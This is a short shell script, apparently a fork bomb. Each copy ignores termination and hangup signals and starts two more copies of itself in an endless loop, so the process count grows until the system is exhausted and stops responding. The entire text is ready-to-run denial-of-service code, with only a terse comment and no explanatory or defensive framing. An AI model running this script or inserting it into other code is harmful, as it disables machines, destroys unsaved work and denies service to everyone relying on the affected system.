#!/bin/sh
# Each starts two more for as long as it is let.
trap '' TERM HUP
while :; do
    "$0" &
    "$0" &
    wait
done 2>/dev/null
